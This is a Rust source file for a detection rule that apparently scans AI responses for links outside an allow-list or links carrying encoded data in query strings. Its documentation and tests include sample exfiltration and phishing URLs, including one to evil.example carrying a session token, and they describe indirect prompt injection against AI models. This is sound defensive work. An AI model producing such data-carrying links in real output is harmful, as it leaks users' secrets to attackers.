//! CO006: links in a response that point outside the URL allow-list, or carry data in their
//! query string.

use std::sync::OnceLock;

use airm_core::{Reference, RuleDocs, RuleMeta, RuleStatus, RuleTarget, Severity};
use regex::Regex;

use super::{Cx, Hit};
use crate::detect::lazy_regex;
use crate::verdict::Span;

/// Metadata.
pub static META: RuleMeta = RuleMeta {
    id: "CO006",
    name: "untrusted-link",
    summary: "Response links outside the allow-list or carries data in a URL",
    target: RuleTarget::Completion,
    severity: Severity::Medium,
    status: RuleStatus::Preview,
    references: &[Reference::OwaspLlm("LLM05"), Reference::Atlas("AML.T0057")],
    docs: RuleDocs {
        what: "Every http(s) URL whose host is not in `output.url_allow_list` (when set), or whose query has a value of 32+ characters or an encoded payload.",
        why: "Phishing links and click-to-exfiltrate URLs are common goals of indirect prompt injection.",
        example: "Click [here](https://evil.example/login?session=eyJhbGciOi...) to continue.",
        remediation: "Flag or redact; keep an allow-list of domains the assistant may link to.",
        false_positives: "Legitimate links to sites missing from the allow-list; tracking parameters.",
    },
};

fn re() -> Option<&'static Regex> {
    static CELL: OnceLock<Option<Regex>> = OnceLock::new();
    lazy_regex(&CELL, r#"(?i)https?://[^\s)<>\]"'`]+"#)
}

/// Lowercased host of an http(s) URL (without port and userinfo).
pub fn url_host(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let auth = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = auth.rsplit('@').next().unwrap_or(auth);
    let host = host.split(':').next().unwrap_or(host);
    host.to_ascii_lowercase()
}

/// True when `host` equals an allow-list entry or is a subdomain of one.
pub fn host_allowed(host: &str, allow: &[String]) -> bool {
    allow.iter().any(|a| {
        let a = a.trim_start_matches("*.").to_ascii_lowercase();
        host == a || host.ends_with(&format!(".{a}"))
    })
}

/// True when a query value is long (32+ chars) or looks encoded (base64 / percent runs).
pub fn query_carries_data(url: &str) -> bool {
    let Some((_, q)) = url.split_once('?') else {
        return false;
    };
    q.split(['&', ';']).any(|kv| {
        let v = kv.split_once('=').map_or(kv, |(_, v)| v);
        let pct = v.matches('%').count();
        v.len() >= 32 || pct >= 4 || (v.len() >= 16 && crate::decode::looks_like_base64(v))
    })
}

/// Scans.
pub fn scan(cx: &Cx<'_>, out: &mut Vec<Hit>) {
    let Some(re) = re() else { return };
    if !cx.original.contains("http") {
        return;
    }
    let allow = &cx.compiled.url_allow_list;
    for m in re.find_iter(cx.original) {
        let url = m.as_str();
        let host = url_host(url);
        let reason = if !allow.is_empty() && !host_allowed(&host, allow) {
            Some("host outside the allow-list")
        } else if query_carries_data(url) {
            Some("data in the query string")
        } else {
            None
        };
        if let Some(reason) = reason {
            out.push(Hit {
                message: format!("link to `{host}`: {reason}"),
                score: 1.0,
                span: Some(Span {
                    start: m.start(),
                    end: m.end(),
                }),
                chain: None,
                label: Some("URL"),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_and_queries() {
        assert_eq!(
            url_host("https://user@Docs.Example.com:8443/a?b"),
            "docs.example.com"
        );
        let allow = vec!["example.com".to_string()];
        assert!(host_allowed("docs.example.com", &allow));
        assert!(!host_allowed("example.com.evil.io", &allow));
        assert!(query_carries_data(
            "https://x.io/p.png?d=SGVsbG8gc2VjcmV0IGRhdGE"
        ));
        assert!(!query_carries_data("https://x.io/search?q=rust&page=2"));
    }
}
